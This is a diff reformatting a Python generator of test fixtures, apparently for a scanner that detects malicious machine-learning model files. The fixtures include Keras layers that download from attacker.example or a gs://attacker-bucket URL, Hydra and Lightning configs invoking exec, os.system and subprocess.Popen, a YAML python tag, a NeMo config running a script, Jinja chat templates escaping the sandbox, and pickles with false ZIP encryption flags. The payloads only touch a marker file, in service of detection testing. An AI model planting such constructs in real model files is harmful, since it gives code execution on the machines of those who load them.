@@ -115,7 +115,12 @@ def _layer(module: str, class_name: str, config: dict[str, object]) -> dict[str,
 
 
 def _function(module: str, name: str) -> dict[str, object]:
-    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}
+    return {
+        "module": module,
+        "class_name": "function",
+        "config": name,
+        "registered_name": "function",
+    }
 
 
 def _initializer(name: str) -> dict[str, object]:
@@ -127,14 +132,20 @@ def _dense(name: str, units: int) -> dict[str, object]:
         "keras.layers",
         "Dense",
         {
-            "name": name, "trainable": True, "dtype": _layer("keras", "DTypePolicy", {"name": "float32"}),
-            "units": units, "activation": "relu", "use_bias": True,
+            "name": name,
+            "trainable": True,
+            "dtype": _layer("keras", "DTypePolicy", {"name": "float32"}),
+            "units": units,
+            "activation": "relu",
+            "use_bias": True,
             "kernel_initializer": _initializer("GlorotUniform"),
             "bias_initializer": _layer("keras.initializers", "Zeros", {}),
-            "kernel_regularizer": None, "bias_regularizer": None,
-            "kernel_constraint": None, "bias_constraint": None,
+            "kernel_regularizer": None,
+            "bias_regularizer": None,
+            "kernel_constraint": None,
+            "bias_constraint": None,
         },
-    ) | {"build_config": {"input_shape": [None, 4]}}  # fmt: skip
+    ) | {"build_config": {"input_shape": [None, 4]}}
 
 
 def _sequential(*layers: dict[str, object]) -> dict[str, object]:
@@ -142,13 +153,26 @@ def _sequential(*layers: dict[str, object]) -> dict[str, object]:
         "keras",
         "Sequential",
         {
-            "name": "sequential", "trainable": True,
-            "layers": [_layer("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}), *layers],
+            "name": "sequential",
+            "trainable": True,
+            "layers": [
+                _layer(
+                    "keras.layers",
+                    "InputLayer",
+                    {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
+                ),
+                *layers,
+            ],
         },
-    ) | {"compile_config": {  # fmt: skip
-        "optimizer": _layer("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001}),
-        "loss": "mean_squared_error", "metrics": ["mae"],
-    }}  # fmt: skip
+    ) | {
+        "compile_config": {
+            "optimizer": _layer(
+                "keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001}
+            ),
+            "loss": "mean_squared_error",
+            "metrics": ["mae"],
+        }
+    }
 
 
 def _lambda_ref(module: str, name: str, arguments: dict[str, object]) -> dict[str, object]:
@@ -290,125 +314,378 @@ def cases(root: Path) -> list[Case]:
     torch_canary = _torch_zip(canary)
 
     # ---- class 1: no framework namespace trusted wholesale (Keras)
-    add("keras/get_file.keras", _keras_zip(_sequential(_lambda_ref("keras.utils", "get_file", {
-        "fname": "payload.tar.gz", "origin": "https://attacker.example/payload.tar.gz",
-        "extract": True, "cache_dir": "/tmp"})))  # fmt: skip
-        , "malicious", "keras-internal-download",
-        "Lambda whose function is keras.utils.get_file (downloads and extracts at load, CVE-2025-8747 class)")
-    add("keras/unsafe_switch.keras", _keras_zip(_sequential(
-        _lambda_ref("keras.config", "enable_unsafe_deserialization", {}))),
-        "malicious", "keras-safety-switch",
-        "Lambda calling keras.config.enable_unsafe_deserialization (CVE-2025-9906 class)")  # fmt: skip
-    add("keras/nested_load_model.keras", _keras_zip(_sequential(_lambda_ref(
-        "keras.src.saving.saving_api", "load_model",
-        {"filepath": "../../shared/inner.keras", "safe_mode": False}))),
-        "malicious", "keras-nested-loader",
-        "Lambda referencing keras' own load_model with safe_mode=False on a path outside the package")  # fmt: skip
-    add("keras/torch_wrapper.keras", _keras_zip(_sequential(_layer(
-        "keras.layers", "TorchModuleWrapper",
-        {"name": "torch_module_wrapper", "module": base64.b64encode(torch_canary).decode()}))),
-        "malicious", "keras-foreign-wrapper",
-        "TorchModuleWrapper holding a base64 torch.save zip whose data.pkl calls os.system")  # fmt: skip
-    add("keras/tfsm_layer.keras", _keras_zip(_sequential(_layer(
-        "keras.layers", "TFSMLayer",
-        {"name": "tfsm", "filepath": "/opt/attacker/saved_model", "call_endpoint": "serve"}))),
-        "malicious", "keras-external-savedmodel",
-        "TFSMLayer loading an external SavedModel by absolute path (bypasses safe_mode)")  # fmt: skip
-    add("keras/stringlookup_url.keras", _keras_zip(_sequential(_layer(
-        "keras.layers", "StringLookup",
-        {"name": "lookup", "vocabulary": "gs://attacker-bucket/vocab.txt"}))),
-        "malicious", "keras-external-path",
-        "StringLookup reading its vocabulary from a remote URL (CVE-2025-12058 class)")  # fmt: skip
-    add("keras/dense.keras", _keras_zip(_sequential(_dense("dense", 8), _dense("dense_1", 2))),
-        "benign", "keras-v3-functional", "Keras 3 Sequential with Dense, initializers, dtype policy, Adam")  # fmt: skip
-    add("keras/lookup_inline.keras", _keras_zip(_sequential(_layer(
-        "keras.layers", "StringLookup", {"name": "lookup", "vocabulary": ["a", "b", "c"],
-        "num_oov_indices": 1, "output_mode": "int"}), _dense("dense", 2))),
-        "benign", "keras-external-path", "StringLookup with an inline vocabulary")  # fmt: skip
+    add(
+        "keras/get_file.keras",
+        _keras_zip(
+            _sequential(
+                _lambda_ref(
+                    "keras.utils",
+                    "get_file",
+                    {
+                        "fname": "payload.tar.gz",
+                        "origin": "https://attacker.example/payload.tar.gz",
+                        "extract": True,
+                        "cache_dir": "/tmp",
+                    },
+                )
+            )
+        ),
+        "malicious",
+        "keras-internal-download",
+        "Lambda whose function is keras.utils.get_file (downloads and extracts at load, CVE-2025-8747 class)",
+    )
+    add(
+        "keras/unsafe_switch.keras",
+        _keras_zip(_sequential(_lambda_ref("keras.config", "enable_unsafe_deserialization", {}))),
+        "malicious",
+        "keras-safety-switch",
+        "Lambda calling keras.config.enable_unsafe_deserialization (CVE-2025-9906 class)",
+    )
+    add(
+        "keras/nested_load_model.keras",
+        _keras_zip(
+            _sequential(
+                _lambda_ref(
+                    "keras.src.saving.saving_api",
+                    "load_model",
+                    {"filepath": "../../shared/inner.keras", "safe_mode": False},
+                )
+            )
+        ),
+        "malicious",
+        "keras-nested-loader",
+        "Lambda referencing keras' own load_model with safe_mode=False on a path outside the package",
+    )
+    add(
+        "keras/torch_wrapper.keras",
+        _keras_zip(
+            _sequential(
+                _layer(
+                    "keras.layers",
+                    "TorchModuleWrapper",
+                    {
+                        "name": "torch_module_wrapper",
+                        "module": base64.b64encode(torch_canary).decode(),
+                    },
+                )
+            )
+        ),
+        "malicious",
+        "keras-foreign-wrapper",
+        "TorchModuleWrapper holding a base64 torch.save zip whose data.pkl calls os.system",
+    )
+    add(
+        "keras/tfsm_layer.keras",
+        _keras_zip(
+            _sequential(
+                _layer(
+                    "keras.layers",
+                    "TFSMLayer",
+                    {
+                        "name": "tfsm",
+                        "filepath": "/opt/attacker/saved_model",
+                        "call_endpoint": "serve",
+                    },
+                )
+            )
+        ),
+        "malicious",
+        "keras-external-savedmodel",
+        "TFSMLayer loading an external SavedModel by absolute path (bypasses safe_mode)",
+    )
+    add(
+        "keras/stringlookup_url.keras",
+        _keras_zip(
+            _sequential(
+                _layer(
+                    "keras.layers",
+                    "StringLookup",
+                    {"name": "lookup", "vocabulary": "gs://attacker-bucket/vocab.txt"},
+                )
+            )
+        ),
+        "malicious",
+        "keras-external-path",
+        "StringLookup reading its vocabulary from a remote URL (CVE-2025-12058 class)",
+    )
+    add(
+        "keras/dense.keras",
+        _keras_zip(_sequential(_dense("dense", 8), _dense("dense_1", 2))),
+        "benign",
+        "keras-v3-functional",
+        "Keras 3 Sequential with Dense, initializers, dtype policy, Adam",
+    )
+    add(
+        "keras/lookup_inline.keras",
+        _keras_zip(
+            _sequential(
+                _layer(
+                    "keras.layers",
+                    "StringLookup",
+                    {
+                        "name": "lookup",
+                        "vocabulary": ["a", "b", "c"],
+                        "num_oov_indices": 1,
+                        "output_mode": "int",
+                    },
+                ),
+                _dense("dense", 2),
+            )
+        ),
+        "benign",
+        "keras-external-path",
+        "StringLookup with an inline vocabulary",
+    )
 
     # ---- class 2: embedded blobs in configs
-    add("blobs/preprocessor_config.json", json.dumps({
-        "feature_extractor_type": "CustomExtractor", "sampling_rate": 16000,
-        "state": canary_b64}, indent=2),
-        "malicious", "config-base64-pickle", "JSON config holding a base64 pickle that calls os.system")  # fmt: skip
-    add("blobs/hparams.yaml", "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n"
+    add(
+        "blobs/preprocessor_config.json",
+        json.dumps(
+            {
+                "feature_extractor_type": "CustomExtractor",
+                "sampling_rate": 16000,
+                "state": canary_b64,
+            },
+            indent=2,
+        ),
+        "malicious",
+        "config-base64-pickle",
+        "JSON config holding a base64 pickle that calls os.system",
+    )
+    add(
+        "blobs/hparams.yaml",
+        "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n"
         "  out_features: 2\nstate: !!binary |\n  " + canary_b64 + "\n",
-        "malicious", "config-binary-pickle", "YAML !!binary value holding a pickle that calls os.system")  # fmt: skip
-    add("blobs/custom_layer.keras", _keras_zip(_sequential(_layer(
-        "keras.layers", "Dense", {"name": "dense", "units": 2,
-        "extra_state": base64.b64encode(canary_pickle(root, 0)).decode()}))),
-        "malicious", "keras-base64-pickle", "protocol-0 pickle (no magic) as base64 in a Keras layer config")  # fmt: skip
-    add("blobs/embedded_npy.json", json.dumps({
-        "name": "calibration", "table": base64.b64encode(_npy()).decode()}),
-        "benign", "config-base64-pickle", "JSON config with a base64 .npy array (no pickle)")  # fmt: skip
+        "malicious",
+        "config-binary-pickle",
+        "YAML !!binary value holding a pickle that calls os.system",
+    )
+    add(
+        "blobs/custom_layer.keras",
+        _keras_zip(
+            _sequential(
+                _layer(
+                    "keras.layers",
+                    "Dense",
+                    {
+                        "name": "dense",
+                        "units": 2,
+                        "extra_state": base64.b64encode(canary_pickle(root, 0)).decode(),
+                    },
+                )
+            )
+        ),
+        "malicious",
+        "keras-base64-pickle",
+        "protocol-0 pickle (no magic) as base64 in a Keras layer config",
+    )
+    add(
+        "blobs/embedded_npy.json",
+        json.dumps({"name": "calibration", "table": base64.b64encode(_npy()).decode()}),
+        "benign",
+        "config-base64-pickle",
+        "JSON config with a base64 .npy array (no pickle)",
+    )
 
     # ---- class 5: config-driven instantiation (Hydra, NeMo, Lightning)
-    add("hydra/exec.yaml", "model:\n  _target_: builtins.exec\n  _args_:\n"
+    add(
+        "hydra/exec.yaml",
+        "model:\n  _target_: builtins.exec\n  _args_:\n"
         f"  - \"open('{marker(root)}', 'w').close()\"\n",
-        "malicious", "hydra-target", "Hydra _target_ builtins.exec with _args_")  # fmt: skip
-    add("hydra/partial_system.yaml", "hook:\n  _target_: os.system\n  _partial_: true\n"
-        f"  command: touch {marker(root)}\n",
-        "malicious", "hydra-partial", "Hydra _target_ os.system with _partial_")  # fmt: skip
-    add("hydra/from_pretrained.json", json.dumps({"encoder": {
-        "_target_": "transformers.AutoModel.from_pretrained",
-        "pretrained_model_name_or_path": "attacker/remote-code-model", "trust_remote_code": True}}),
-        "malicious", "hydra-framework-loader",
-        "JSON Hydra config loading another model with trust_remote_code=True")  # fmt: skip
-    add("lightning/config.yaml", "model:\n  class_path: subprocess.Popen\n  init_args:\n"
+        "malicious",
+        "hydra-target",
+        "Hydra _target_ builtins.exec with _args_",
+    )
+    add(
+        "hydra/partial_system.yaml",
+        f"hook:\n  _target_: os.system\n  _partial_: true\n  command: touch {marker(root)}\n",
+        "malicious",
+        "hydra-partial",
+        "Hydra _target_ os.system with _partial_",
+    )
+    add(
+        "hydra/from_pretrained.json",
+        json.dumps(
+            {
+                "encoder": {
+                    "_target_": "transformers.AutoModel.from_pretrained",
+                    "pretrained_model_name_or_path": "attacker/remote-code-model",
+                    "trust_remote_code": True,
+                }
+            }
+        ),
+        "malicious",
+        "hydra-framework-loader",
+        "JSON Hydra config loading another model with trust_remote_code=True",
+    )
+    add(
+        "lightning/config.yaml",
+        "model:\n  class_path: subprocess.Popen\n  init_args:\n"
         f"    args: [touch, {marker(root)}]\n",
-        "malicious", "lightning-class-path", "Lightning CLI class_path subprocess.Popen with init_args")  # fmt: skip
-    add("yaml/python_tag.yaml", f"lr: 0.1\nhook: !!python/object/apply:os.system ['touch {marker(root)}']\n",
-        "malicious", "yaml-python-tag", "hparams.yaml with a !!python/object/apply tag (yaml.unsafe_load)")  # fmt: skip
+        "malicious",
+        "lightning-class-path",
+        "Lightning CLI class_path subprocess.Popen with init_args",
+    )
+    add(
+        "yaml/python_tag.yaml",
+        f"lr: 0.1\nhook: !!python/object/apply:os.system ['touch {marker(root)}']\n",
+        "malicious",
+        "yaml-python-tag",
+        "hparams.yaml with a !!python/object/apply tag (yaml.unsafe_load)",
+    )
     weights = _real_torch_zip() or _torch_zip(benign_pickle())
-    add("nemo/evil.nemo", _tar({
-        "./model_config.yaml": (NEMO_CONFIG.replace(
-            "  _target_: nemo.collections.asr.modules.ConvASRDecoder",
-            "  _target_: runpy.run_path\n  path_name: ../../payload.py")).encode(),
-        "./model_weights.ckpt": weights}),
-        "malicious", "nemo-target", ".nemo archive whose model_config.yaml instantiates runpy.run_path")  # fmt: skip
-    add("nemo/init_from.nemo", _tar({
-        "./model_config.yaml": (NEMO_CONFIG + "init_from_nemo_model: https://attacker.example/x.nemo\n").encode(),
-        "./model_weights.ckpt": weights}),
-        "malicious", "nemo-external-model", ".nemo config initialising from a remote .nemo")  # fmt: skip
-    add("nemo/asr.nemo", _tar({"./model_config.yaml": NEMO_CONFIG.encode(),
-        "./model_weights.ckpt": weights, "./2b1d4f_tokenizer.model": b"\x0a\x05hello"}),
-        "benign", "nemo-target", ".nemo ASR archive: conformer config and a real torch state_dict")  # fmt: skip
-    add("lightning/cli_config.yaml", LIGHTNING_CONFIG, "benign", "lightning-class-path",
-        "Lightning CLI config: torch.nn.Linear model, AdamW, logger and checkpoint callback")  # fmt: skip
-    add("hydra/config.yaml", HYDRA_CONFIG, "benign", "hydra-target",
-        "Hydra config: torch.nn modules, partial AdamW, CrossEntropyLoss")  # fmt: skip
+    add(
+        "nemo/evil.nemo",
+        _tar(
+            {
+                "./model_config.yaml": (
+                    NEMO_CONFIG.replace(
+                        "  _target_: nemo.collections.asr.modules.ConvASRDecoder",
+                        "  _target_: runpy.run_path\n  path_name: ../../payload.py",
+                    )
+                ).encode(),
+                "./model_weights.ckpt": weights,
+            }
+        ),
+        "malicious",
+        "nemo-target",
+        ".nemo archive whose model_config.yaml instantiates runpy.run_path",
+    )
+    add(
+        "nemo/init_from.nemo",
+        _tar(
+            {
+                "./model_config.yaml": (
+                    NEMO_CONFIG + "init_from_nemo_model: https://attacker.example/x.nemo\n"
+                ).encode(),
+                "./model_weights.ckpt": weights,
+            }
+        ),
+        "malicious",
+        "nemo-external-model",
+        ".nemo config initialising from a remote .nemo",
+    )
+    add(
+        "nemo/asr.nemo",
+        _tar(
+            {
+                "./model_config.yaml": NEMO_CONFIG.encode(),
+                "./model_weights.ckpt": weights,
+                "./2b1d4f_tokenizer.model": b"\x0a\x05hello",
+            }
+        ),
+        "benign",
+        "nemo-target",
+        ".nemo ASR archive: conformer config and a real torch state_dict",
+    )
+    add(
+        "lightning/cli_config.yaml",
+        LIGHTNING_CONFIG,
+        "benign",
+        "lightning-class-path",
+        "Lightning CLI config: torch.nn.Linear model, AdamW, logger and checkpoint callback",
+    )
+    add(
+        "hydra/config.yaml",
+        HYDRA_CONFIG,
+        "benign",
+        "hydra-target",
+        "Hydra config: torch.nn modules, partial AdamW, CrossEntropyLoss",
+    )
 
     # ---- class 6: chat templates wherever transformers reads them
-    add("templates/chat_template.jinja", _ssti(root), "malicious", "chat-template-jinja",
-        "standalone chat_template.jinja reaching os.popen through __globals__")  # fmt: skip
-    add("templates/additional_chat_templates/tool_use.jinja",
-        "System: you are helpful.\n" + _ssti(root), "malicious", "chat-template-jinja",
-        "additional_chat_templates/*.jinja starting with plain text")  # fmt: skip
-    add("templates/chat_template.json", json.dumps({"chat_template": {
-        "default": CHATML, "tool_use": _ssti(root)}}, indent=2),
-        "malicious", "chat-template-json", "chat_template.json with named templates, one escaping")  # fmt: skip
-    add("templates/processor_config.json", json.dumps({
-        "processor_class": "LlavaProcessor", "patch_size": 14, "chat_template": _ssti(root)}, indent=2),
-        "malicious", "chat-template-processor", "processor_config.json chat_template escaping the sandbox")  # fmt: skip
-    add("templates/benign/chat_template.jinja", GENERATION_TEMPLATE, "benign", "chat-template-jinja",
-        "chat_template.jinja using transformers' {% generation %} and {% break %}")  # fmt: skip
-    add("templates/benign/chat_template.json", json.dumps({"chat_template": CHATML}, indent=2),
-        "benign", "chat-template-json", "legacy processor chat_template.json (ChatML)")  # fmt: skip
-    add("templates/benign/processor_config.json", json.dumps({
-        "processor_class": "LlavaProcessor", "patch_size": 14, "chat_template": CHATML}, indent=2),
-        "benign", "chat-template-processor", "processor_config.json with a ChatML template")  # fmt: skip
+    add(
+        "templates/chat_template.jinja",
+        _ssti(root),
+        "malicious",
+        "chat-template-jinja",
+        "standalone chat_template.jinja reaching os.popen through __globals__",
+    )
+    add(
+        "templates/additional_chat_templates/tool_use.jinja",
+        "System: you are helpful.\n" + _ssti(root),
+        "malicious",
+        "chat-template-jinja",
+        "additional_chat_templates/*.jinja starting with plain text",
+    )
+    add(
+        "templates/chat_template.json",
+        json.dumps({"chat_template": {"default": CHATML, "tool_use": _ssti(root)}}, indent=2),
+        "malicious",
+        "chat-template-json",
+        "chat_template.json with named templates, one escaping",
+    )
+    add(
+        "templates/processor_config.json",
+        json.dumps(
+            {"processor_class": "LlavaProcessor", "patch_size": 14, "chat_template": _ssti(root)},
+            indent=2,
+        ),
+        "malicious",
+        "chat-template-processor",
+        "processor_config.json chat_template escaping the sandbox",
+    )
+    add(
+        "templates/benign/chat_template.jinja",
+        GENERATION_TEMPLATE,
+        "benign",
+        "chat-template-jinja",
+        "chat_template.jinja using transformers' {% generation %} and {% break %}",
+    )
+    add(
+        "templates/benign/chat_template.json",
+        json.dumps({"chat_template": CHATML}, indent=2),
+        "benign",
+        "chat-template-json",
+        "legacy processor chat_template.json (ChatML)",
+    )
+    add(
+        "templates/benign/processor_config.json",
+        json.dumps(
+            {"processor_class": "LlavaProcessor", "patch_size": 14, "chat_template": CHATML},
+            indent=2,
+        ),
+        "benign",
+        "chat-template-processor",
+        "processor_config.json with a ChatML template",
+    )
 
     # ---- class 7: ZIP flag tricks
-    add("zip/encrypted_flag.pt", _torch_zip(canary, flags=0x1), "malicious", "zip-false-encryption",
-        "torch zip whose data.pkl (a canary) is flagged encrypted but stored plainly")  # fmt: skip
-    add("zip/central_only_flag.pt", _torch_zip(canary, flags=0x1, central_only=True),
-        "malicious", "zip-flag-mismatch", "encryption flag in the central directory only")  # fmt: skip
-    add("zip/strong_encryption_flag.pt", _torch_zip(canary, flags=0x40), "malicious",
-        "zip-false-encryption", "strong-encryption flag on plain stored data")  # fmt: skip
-    add("zip/real_torch.pt", weights, "benign", "zip-false-encryption",
-        "a real torch.save checkpoint (no flags)")  # fmt: skip
-    add("zip/descriptor.zip", _streamed_zip(), "benign", "zip-flag-mismatch",
-        "zip written to an unseekable stream (data-descriptor flag in both headers)")  # fmt: skip
+    add(
+        "zip/encrypted_flag.pt",
+        _torch_zip(canary, flags=0x1),
+        "malicious",
+        "zip-false-encryption",
+        "torch zip whose data.pkl (a canary) is flagged encrypted but stored plainly",
+    )
+    add(
+        "zip/central_only_flag.pt",
+        _torch_zip(canary, flags=0x1, central_only=True),
+        "malicious",
+        "zip-flag-mismatch",
+        "encryption flag in the central directory only",
+    )
+    add(
+        "zip/strong_encryption_flag.pt",
+        _torch_zip(canary, flags=0x40),
+        "malicious",
+        "zip-false-encryption",
+        "strong-encryption flag on plain stored data",
+    )
+    add(
+        "zip/real_torch.pt",
+        weights,
+        "benign",
+        "zip-false-encryption",
+        "a real torch.save checkpoint (no flags)",
+    )
+    add(
+        "zip/descriptor.zip",
+        _streamed_zip(),
+        "benign",
+        "zip-flag-mismatch",
+        "zip written to an unseekable stream (data-descriptor flag in both headers)",
+    )
     return written
 
 
